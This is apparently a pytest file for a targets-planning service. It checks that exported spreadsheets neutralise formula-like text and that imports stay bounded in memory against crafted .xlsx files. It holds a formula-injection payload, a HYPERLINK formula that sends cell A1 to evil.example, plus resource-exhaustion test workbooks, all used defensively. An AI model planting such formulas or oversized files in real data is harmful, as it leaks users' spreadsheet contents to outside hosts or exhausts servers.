"""Spreadsheets can hurt neither the reader nor the server (issue 7, items 6 and 3): formula-like text is exported
inert, and an import reads rows as a stream, bounded in rows and columns whatever the file declares."""

import io
import tracemalloc
import zipfile
from decimal import Decimal as D
from typing import Any

import pytest
from openpyxl import load_workbook

from services.targets.plans.sheet_reader import MAX_COLUMNS, MAX_ROWS, read_rows
from services.targets.plans.spreadsheets import XLSX_MEDIA_TYPE
from shared.errors import InvalidInput
from tests.targets.plans.support import TARGETS, cells, decomposed_plan, standard_decomposition

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Tea")'


def test_formula_like_product_lines_are_exported_as_text_and_numbers_stay_numbers(clients, org, planner):
    client = clients[TARGETS]
    body = standard_decomposition(org)
    body["product_shares"] = [{"product_line": HYPERLINK, "share": "3"}, {"product_line": "@SUM(1)", "share": "1"}]
    plan = decomposed_plan(client, org, planner, body)
    xlsx = client.get(f"/plans/{plan['id']}/export.xlsx", headers=planner)
    sheet = load_workbook(io.BytesIO(xlsx.content))["targets"]
    lines = [row for row in sheet.iter_rows(min_row=2) if row[0].value != "TOTAL"]  # 6 reps x 2 product lines
    assert len(lines) == 12 and {row[4].value for row in lines} == {"'" + HYPERLINK, "'@SUM(1)"}
    assert {row[4].data_type for row in lines} == {"s"}  # text, not a formula ("f")
    a1 = next(r for r in lines if r[2].value == org.reps["a1"] and r[4].value.startswith("'="))
    assert a1[5].value == 188 and a1[5].data_type == "n"  # a1's line-A January, hand-worked in support.py
    text = client.get(f"/plans/{plan['id']}/export.csv", headers=planner).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "\n=" not in text and ",=" not in text and ",@" not in text
    # The guard is undone on import: the exported file round-trips without a change.
    again = client.post(
        f"/plans/{plan['id']}/imports/targets",
        headers={**planner, "Content-Type": XLSX_MEDIA_TYPE},
        content=xlsx.content,
    )
    assert again.status_code == 200 and again.json()["cells_written"] == 0, again.text


def workbook(sheet_xml: str) -> bytes:
    """A minimal .xlsx around one sheet's XML, built by hand so the <dimension> can claim anything."""
    files = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="targets" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text)
    return out.getvalue()


def sheet(dimension: str, rows: str) -> str:
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def peak_mb(read) -> float:
    tracemalloc.start()
    try:
        read()
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak / 1024 / 1024


def test_a_tiny_file_declaring_a_huge_dimension_is_read_in_bounded_memory():
    rows = f'<row r="1">{cell("A1", "org_unit_code")}{cell("B1", "m01")}</row>'
    rows += f'<row r="2">{cell("A2", "O1")}<c r="B2"><v>5</v></c></row>'
    content = workbook(sheet("A1:XFD3000", rows))
    assert len(content) < 5_000
    found: dict[str, Any] = {}
    # Before the fix read-only openpyxl padded 3,000 rows to 16,384 columns: several hundred MB.
    assert peak_mb(lambda: found.update(rows=read_rows(content))) < 30
    header, data = found["rows"]
    assert header[:2] == ["org_unit_code", "m01"] and data == [(2, {"org_unit_code": "O1", "m01": 5})]


@pytest.mark.parametrize(
    "far_cell,limit",
    [(f"A{MAX_ROWS + 2}", f"at most {MAX_ROWS} rows"), ("AE2", f"at most {MAX_COLUMNS} columns")],
)
def test_rows_or_columns_past_the_limit_are_422_naming_it(clients, org, planner, far_cell, limit):
    row = int("".join(ch for ch in far_cell if ch.isdigit()))
    rows = f'<row r="1">{cell("A1", "org_unit_code")}{cell("B1", "m01")}</row>'
    rows += f'<row r="{row}">{cell(far_cell, "x")}</row>'
    content = workbook(sheet("A1:XFD1048576", rows))
    with pytest.raises(InvalidInput) as refused:
        assert peak_mb(lambda: read_rows(content)) < 30
    assert limit in refused.value.detail
    client = clients[TARGETS]
    plan = decomposed_plan(client, org, planner)
    answer = client.post(
        f"/plans/{plan['id']}/imports/targets", headers={**planner, "Content-Type": XLSX_MEDIA_TYPE}, content=content
    )
    assert answer.status_code == 422 and answer.json()["errors"] == [
        {"field": "file", "reason": answer.json()["detail"]}
    ]
    assert limit in answer.json()["detail"]
    assert sum(cells(client, planner, plan["id"]).values()) == D(12000)  # the standard decomposition, untouched
